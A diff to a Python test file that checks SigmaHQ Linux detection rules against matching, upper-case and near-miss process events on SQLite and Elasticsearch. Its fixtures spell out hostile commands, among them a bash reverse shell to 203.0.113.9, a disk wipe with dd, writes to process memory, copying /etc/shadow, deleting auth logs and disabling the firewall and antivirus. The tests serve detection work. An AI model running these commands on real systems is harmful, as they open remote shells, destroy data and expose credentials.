@@ -1,13 +1,13 @@
-"""SigmaHQ's non-Windows rules, unmodified, each with a matching event and a near miss: the rule
-fires on the first and not on the second, on SQLite and on Elasticsearch.
+"""SigmaHQ's non-Windows rules, unmodified, each with a matching event, the same event in another
+letter case, and a near miss: the rule fires on the first two and not on the third, on SQLite and
+on Elasticsearch.
 
 Rules of log sources govsoc collects (Linux syslog lines) get real lines, ingested through the
-real parser and run by the real detection pass (which applies each rule's log-source condition),
-and a case variant of the matching line, which fires too (keywords are caseless).
+real parser and run by the real detection pass (which applies each rule's log-source condition).
 Linux process-creation rules, whose source govsoc does not collect yet ("no source": detect does
 not run them), are converted with the same pipeline and run over ECS process events (the shape
 Auditbeat and Elastic Defend write), which pins their field mapping and value semantics for the
-day a collector brings those events. (Their case variants come with caseless field matching.)
+day a collector brings those events.
 """
 
 from __future__ import annotations
@@ -119,106 +119,110 @@ LINES = [
 
 @dataclass(frozen=True)
 class Process:
-    """A process-creation rule: (executable, command line) that fire it, and a near miss."""
+    """A process-creation rule: (executable, command line) that fire it, another case, a near miss."""
 
     rule: str
     hit: tuple[str, str]
+    case: tuple[str, str]
     miss: tuple[str, str]
 
 
 PROCESSES = [
     # apt told to run a command before updating; a plain update is not
     Process("proc_creation_lnx_apt_shell_execution.yml",
-            ("/usr/bin/apt", "apt -o APT::Update::Pre-Invoke::=/bin/sh update"), ("/usr/bin/apt", "apt update")),
+            ("/usr/bin/apt", "apt -o APT::Update::Pre-Invoke::=/bin/sh update"),
+            ("/usr/bin/APT", "apt -o apt::update::pre-invoke::=/bin/sh update"), ("/usr/bin/apt", "apt update")),
     # endswith /at; /usr/bin/cat only ends with "at"
-    Process("proc_creation_lnx_at_command.yml", ("/usr/bin/at", "at now + 1 minute"), ("/usr/bin/cat", "cat notes")),
-    # |re '-D': deleting every audit rule; listing them is harmless
-    Process("proc_creation_lnx_auditctl_clear_rules.yml",
-            ("/sbin/auditctl", "auditctl -D"), ("/sbin/auditctl", "auditctl -l")),
+    Process("proc_creation_lnx_at_command.yml", ("/usr/bin/at", "at now + 1 minute"),
+            ("/usr/bin/AT", "at now + 1 minute"), ("/usr/bin/cat", "cat notes")),
+    # |re '-D' is case-sensitive (no i flag): the case variant changes the executable only
+    Process("proc_creation_lnx_auditctl_clear_rules.yml", ("/sbin/auditctl", "auditctl -D"),
+            ("/SBIN/AUDITCTL", "auditctl -D"), ("/sbin/auditctl", "auditctl -l")),
     # |contains|all: stop and kesl; starting it is fine
-    Process("proc_creation_lnx_av_kaspersky_av_disabled.yml",
-            ("/usr/bin/systemctl", "systemctl stop kesl"), ("/usr/bin/systemctl", "systemctl start kesl")),
+    Process("proc_creation_lnx_av_kaspersky_av_disabled.yml", ("/usr/bin/systemctl", "systemctl stop kesl"),
+            ("/usr/bin/SYSTEMCTL", "SYSTEMCTL STOP KESL"), ("/usr/bin/systemctl", "systemctl start kesl")),
     # all of selection_*: awk's system() and a shell; awk printing spawns nothing
-    Process("proc_creation_lnx_awk_shell_spawn.yml",
-            ("/usr/bin/awk", 'awk \'BEGIN {system("/bin/sh")}\''), ("/usr/bin/awk", "awk 'BEGIN {print 1}'")),
+    Process("proc_creation_lnx_awk_shell_spawn.yml", ("/usr/bin/awk", "awk 'BEGIN {system(\"/bin/sh\")}'"),
+            ("/usr/bin/AWK", "AWK 'begin {SYSTEM(\"/BIN/SH\")}'"), ("/usr/bin/awk", "awk 'BEGIN {print 1}'")),
     # decoding, not encoding
-    Process("proc_creation_lnx_base64_decode.yml",
-            ("/usr/bin/base64", "base64 -d payload.b64"), ("/usr/bin/base64", "base64 payload.txt")),
+    Process("proc_creation_lnx_base64_decode.yml", ("/usr/bin/base64", "base64 -d payload.b64"),
+            ("/usr/bin/BASE64", "BASE64 -D PAYLOAD.B64"), ("/usr/bin/base64", "base64 payload.txt")),
     # decoded into a shell; decoded into a file is not execution
-    Process("proc_creation_lnx_base64_execution.yml",
-            ("/bin/sh", "sh -c echo aWQ= | base64 -d | bash"), ("/bin/sh", "sh -c echo aWQ= | base64 -d > /tmp/x")),
+    Process("proc_creation_lnx_base64_execution.yml", ("/bin/sh", "sh -c echo aWQ= | base64 -d | bash"),
+            ("/bin/SH", "SH -C ECHO AWQ= | BASE64 -D | BASH"), ("/bin/sh", "sh -c echo aWQ= | base64 -d > /tmp/x")),
     # a base64 "#!/bin/bash"; "#!/bin/python" encodes differently
-    Process("proc_creation_lnx_base64_shebang_cli.yml",
-            ("/bin/sh", "sh -c echo IyEvYmluL2Jhc2gK | base64 -d"), ("/bin/sh", "sh -c echo IyEvYmluL3B5dGhvbgo=")),
+    Process("proc_creation_lnx_base64_shebang_cli.yml", ("/bin/sh", "sh -c echo IyEvYmluL2Jhc2gK | base64 -d"),
+            ("/bin/sh", "sh -c echo iyevymlul2jhc2gk | base64 -d"), ("/bin/sh", "sh -c echo IyEvYmluL3B5dGhvbgo=")),
     # an interactive shell; `bash -c` runs one command
-    Process("proc_creation_lnx_bash_interactive_shell.yml",
-            ("/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ("/bin/bash", "bash -c id")),
+    Process("proc_creation_lnx_bash_interactive_shell.yml", ("/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+            ("/BIN/BASH", "BASH -I >& /DEV/TCP/203.0.113.9/4444 0>&1"), ("/bin/bash", "bash -c id")),
     # bpftrace allowed to write memory
-    Process("proc_creation_lnx_bpftrace_unsafe_option_usage.yml",
-            ("/usr/bin/bpftrace", "bpftrace --unsafe -e 'x'"), ("/usr/bin/bpftrace", "bpftrace -e 'x'")),
+    Process("proc_creation_lnx_bpftrace_unsafe_option_usage.yml", ("/usr/bin/bpftrace", "bpftrace --unsafe -e 'x'"),
+            ("/usr/bin/BPFTRACE", "BPFTRACE --UNSAFE -e 'x'"), ("/usr/bin/bpftrace", "bpftrace -e 'x'")),
     # the setgid capability; net_raw is another
-    Process("proc_creation_lnx_cap_setgid.yml",
-            ("/usr/sbin/setcap", "setcap cap_setgid+ep /tmp/x"), ("/usr/sbin/setcap", "setcap cap_net_raw+ep /tmp/x")),
+    Process("proc_creation_lnx_cap_setgid.yml", ("/usr/sbin/setcap", "setcap cap_setgid+ep /tmp/x"),
+            ("/usr/sbin/SETCAP", "SETCAP CAP_SETGID+EP /TMP/X"), ("/usr/sbin/setcap", "setcap cap_net_raw+ep /tmp/x")),
     # the setuid capability; setgid is the other rule's
-    Process("proc_creation_lnx_cap_setuid.yml",
-            ("/usr/sbin/setcap", "setcap cap_setuid+ep /tmp/x"), ("/usr/sbin/setcap", "setcap cap_setgid+ep /tmp/x")),
+    Process("proc_creation_lnx_cap_setuid.yml", ("/usr/sbin/setcap", "setcap cap_setuid+ep /tmp/x"),
+            ("/usr/sbin/SETCAP", "SETCAP CAP_SETUID+EP /TMP/X"), ("/usr/sbin/setcap", "setcap cap_setgid+ep /tmp/x")),
     # recursive capability search over the file system; one file is routine
-    Process("proc_creation_lnx_capa_discovery.yml",
-            ("/usr/sbin/getcap", "getcap -r / 2>/dev/null"), ("/usr/sbin/getcap", "getcap /usr/bin/ping")),
+    Process("proc_creation_lnx_capa_discovery.yml", ("/usr/sbin/getcap", "getcap -r / 2>/dev/null"),
+            ("/usr/sbin/GETCAP", "GETCAP -R / 2>/dev/null"), ("/usr/sbin/getcap", "getcap /usr/bin/ping")),
     # |endswith ' --': capsh handing over to a shell; --print only reports
-    Process("proc_creation_lnx_capsh_shell_invocation.yml",
-            ("/usr/sbin/capsh", "capsh --"), ("/usr/sbin/capsh", "capsh --print")),
+    Process("proc_creation_lnx_capsh_shell_invocation.yml", ("/usr/sbin/capsh", "capsh --"),
+            ("/usr/sbin/CAPSH", "CAPSH --"), ("/usr/sbin/capsh", "capsh --print")),
     # removing the immutable flag; setting it protects
-    Process("proc_creation_lnx_chattr_immutable_removal.yml",
-            ("/usr/bin/chattr", "chattr -i /etc/passwd"), ("/usr/bin/chattr", "chattr +i /etc/passwd")),
+    Process("proc_creation_lnx_chattr_immutable_removal.yml", ("/usr/bin/chattr", "chattr -i /etc/passwd"),
+            ("/usr/bin/CHATTR", "CHATTR -I /ETC/PASSWD"), ("/usr/bin/chattr", "chattr +i /etc/passwd")),
     # sudo into a chroot; sudo as another user is not
-    Process("proc_creation_lnx_chroot_execution.yml",
-            ("/usr/bin/sudo", "sudo --chroot /tmp/r /bin/sh"), ("/usr/bin/sudo", "sudo -u admin id")),
+    Process("proc_creation_lnx_chroot_execution.yml", ("/usr/bin/sudo", "sudo --chroot /tmp/r /bin/sh"),
+            ("/usr/bin/SUDO", "SUDO --CHROOT /TMP/R /BIN/SH"), ("/usr/bin/sudo", "sudo -u admin id")),
     # reading the clipboard (-o); writing it (-i) is not collection
-    Process("proc_creation_lnx_clipboard_collection.yml",
-            ("/usr/bin/xclip", "xclip -sel clip -o"), ("/usr/bin/xclip", "xclip -sel clip -i")),
+    Process("proc_creation_lnx_clipboard_collection.yml", ("/usr/bin/xclip", "xclip -sel clip -o"),
+            ("/usr/bin/XCLIP", "XCLIP -SEL CLIP -O"), ("/usr/bin/xclip", "xclip -sel clip -i")),
     # shadow copied to /tmp; hosts is no secret
-    Process("proc_creation_lnx_cp_passwd_or_shadow_tmp.yml",
-            ("/bin/cp", "cp /etc/shadow /tmp/s"), ("/bin/cp", "cp /etc/hosts /tmp/h")),
+    Process("proc_creation_lnx_cp_passwd_or_shadow_tmp.yml", ("/bin/cp", "cp /etc/shadow /tmp/s"),
+            ("/BIN/CP", "CP /ETC/SHADOW /TMP/S"), ("/bin/cp", "cp /etc/hosts /tmp/h")),
     # listing crontabs; editing is not enumeration
-    Process("proc_creation_lnx_crontab_enumeration.yml",
-            ("/usr/bin/crontab", "crontab -l"), ("/usr/bin/crontab", "crontab -e")),
+    Process("proc_creation_lnx_crontab_enumeration.yml", ("/usr/bin/crontab", "crontab -l"),
+            ("/usr/bin/CRONTAB", "CRONTAB -L"), ("/usr/bin/crontab", "crontab -e")),
     # removing every job
-    Process("proc_creation_lnx_crontab_removal.yml",
-            ("/usr/bin/crontab", "crontab -r"), ("/usr/bin/crontab", "crontab -l")),
+    Process("proc_creation_lnx_crontab_removal.yml", ("/usr/bin/crontab", "crontab -r"),
+            ("/usr/bin/CRONTAB", "CRONTAB -R"), ("/usr/bin/crontab", "crontab -l")),
     # a miner giving nothing to its authors; a non-zero donation is not in the list
-    Process("proc_creation_lnx_crypto_mining.yml",
-            ("/tmp/xmrig", "./xmrig --donate-level=0 --threads 2"),
+    Process("proc_creation_lnx_crypto_mining.yml", ("/tmp/xmrig", "./xmrig --donate-level=0 --threads 2"),
+            ("/tmp/XMRIG", "./XMRIG --DONATE-LEVEL=0 --THREADS 2"),
             ("/tmp/xmrig", "./xmrig --donate-level=1 --threads 2")),
     # any curl; curlie only starts with curl
-    Process("proc_creation_lnx_curl_usage.yml",
-            ("/usr/bin/curl", "curl https://example.org/"), ("/usr/bin/curlie", "curlie https://example.org/")),
+    Process("proc_creation_lnx_curl_usage.yml", ("/usr/bin/curl", "curl https://example.org/"),
+            ("/usr/bin/CURL", "curl https://example.org/"), ("/usr/bin/curlie", "curlie https://example.org/")),
     # downloaded into /tmp by a shell; into a home folder is not the rule
-    Process("proc_creation_lnx_curl_wget_exec_tmp.yml",
-            ("/bin/sh", "sh -c /usr/bin/curl -o /tmp/x http://h/x"),
-            ("/bin/sh", "sh -c /usr/bin/curl -o /home/u/x http://h/x")),
+    Process("proc_creation_lnx_curl_wget_exec_tmp.yml", ("/bin/sh", "sh -c /usr/bin/curl -o /tmp/x http://h/x"),
+            ("/bin/SH", "SH -C /USR/BIN/CURL -O /TMP/X HTTP://H/X"), ("/bin/sh", "sh -c /usr/bin/curl -o /home/u/x http://h/x")),
     # exact Image, of= and zeros: a disk wiped; copying a disk out is not
-    Process("proc_creation_lnx_dd_file_overwrite.yml",
-            ("/bin/dd", "dd if=/dev/zero of=/dev/sda"), ("/bin/dd", "dd if=/dev/sda of=/tmp/disk.img")),
+    Process("proc_creation_lnx_dd_file_overwrite.yml", ("/bin/dd", "dd if=/dev/zero of=/dev/sda"),
+            ("/BIN/DD", "DD IF=/DEV/ZERO OF=/DEV/SDA"), ("/bin/dd", "dd if=/dev/sda of=/tmp/disk.img")),
     # writing another process's memory; /maps is only read
-    Process("proc_creation_lnx_dd_process_injection.yml",
-            ("/bin/dd", "dd of=/proc/1234/mem bs=1 seek=4096"), ("/bin/dd", "dd if=/proc/1234/maps of=/tmp/x")),
+    Process("proc_creation_lnx_dd_process_injection.yml", ("/bin/dd", "dd of=/proc/1234/mem bs=1 seek=4096"),
+            ("/BIN/DD", "DD OF=/PROC/1234/MEM BS=1 SEEK=4096"), ("/bin/dd", "dd if=/proc/1234/maps of=/tmp/x")),
     # the firewall disabled; enabling it is fine
-    Process("proc_creation_lnx_disable_ufw.yml", ("/usr/sbin/ufw", "ufw disable"), ("/usr/sbin/ufw", "ufw enable")),
+    Process("proc_creation_lnx_disable_ufw.yml", ("/usr/sbin/ufw", "ufw disable"),
+            ("/usr/sbin/UFW", "UFW DISABLE"), ("/usr/sbin/ufw", "ufw enable")),
     # doas, OpenBSD's sudo; sudo is not doas
-    Process("proc_creation_lnx_doas_execution.yml", ("/usr/bin/doas", "doas id"), ("/usr/bin/sudo", "sudo id")),
+    Process("proc_creation_lnx_doas_execution.yml", ("/usr/bin/doas", "doas id"),
+            ("/usr/bin/DOAS", "doas id"), ("/usr/bin/sudo", "sudo id")),
     # env starting a shell; env running ls is not
-    Process("proc_creation_lnx_env_shell_invocation.yml",
-            ("/usr/bin/env", "env /bin/sh"), ("/usr/bin/env", "env LANG=C ls")),
+    Process("proc_creation_lnx_env_shell_invocation.yml", ("/usr/bin/env", "env /bin/sh"),
+            ("/USR/BIN/ENV", "ENV /BIN/SH"), ("/usr/bin/env", "env LANG=C ls")),
     # ESXi network discovery; the version query is not about the network
-    Process("proc_creation_lnx_esxcli_network_discovery.yml",
-            ("/bin/esxcli", "esxcli network ip interface list"), ("/bin/esxcli", "esxcli system version get")),
+    Process("proc_creation_lnx_esxcli_network_discovery.yml", ("/bin/esxcli", "esxcli network ip interface list"),
+            ("/bin/ESXCLI", "ESXCLI NETWORK IP INTERFACE LIST"), ("/bin/esxcli", "esxcli system version get")),
     # selection and not 1 of filter_main_*: apt-key's own chmod in /tmp is filtered out
-    Process("proc_creation_lnx_chmod_targeting_sensitive_directories.yml",
-            ("/bin/chmod", "chmod +x /tmp/payload"), ("/bin/chmod", "chmod 700 /tmp/apt-key-gpghome.Xk2")),
+    Process("proc_creation_lnx_chmod_targeting_sensitive_directories.yml", ("/bin/chmod", "chmod +x /tmp/payload"),
+            ("/BIN/CHMOD", "CHMOD +X /TMP/PAYLOAD"), ("/bin/chmod", "chmod 700 /tmp/apt-key-gpghome.Xk2")),
     # logs removed; sysstat's own clean-up is filtered out
-    Process("proc_creation_lnx_clear_logs.yml",
-            ("/bin/rm", "rm -rf /var/log/auth.log"), ("/bin/rm", "rm -f /var/log/sysstat/sa01")),
+    Process("proc_creation_lnx_clear_logs.yml", ("/bin/rm", "rm -rf /var/log/auth.log"),
+            ("/BIN/RM", "RM -RF /VAR/LOG/AUTH.LOG"), ("/bin/rm", "rm -f /var/log/sysstat/sa01")),
 ]
 
 T0 = datetime(2026, 11, 30, 2, 0, tzinfo=UTC)
@@ -285,11 +289,10 @@ def process_event(n: int, kind: str, executable: str, command_line: str) -> Even
 def test_linux_process_rules_fire_on_their_events_only(kind: str, request: pytest.FixtureRequest,
                                                        corpus: Path) -> None:
     store: Store = request.getfixturevalue("sqlite_store" if kind == "sqlite" else "elastic9_store")
-    kinds = ("hit", "miss")
-    events = [process_event(n, k, *getattr(row, k)) for n, row in enumerate(PROCESSES) for k in kinds]
+    events = [process_event(n, k, *getattr(row, k)) for n, row in enumerate(PROCESSES) for k in KINDS]
     store.write(events)
     store.refresh()
-    owners = {process_event(n, k, "/x", "").id: (row.rule, k) for n, row in enumerate(PROCESSES) for k in kinds}
+    owners = {process_event(n, k, "/x", "").id: (row.rule, k) for n, row in enumerate(PROCESSES) for k in KINDS}
     backend = backend_for(store.kind)
     fired = {}
     for row in PROCESSES:
@@ -298,4 +301,4 @@ def test_linux_process_rules_fire_on_their_events_only(kind: str, request: pytes
         assert rule_source_status(rule) == (False, "product: linux, category: process_creation")
         hits = store.search(Query(native=backend.convert(rule)))
         fired[row.rule] = {owners[e.id][1] for e in hits if owners[e.id][0] == row.rule}
-    assert fired == {row.rule: {"hit"} for row in PROCESSES}
+    assert fired == {row.rule: {"hit", "case"} for row in PROCESSES}
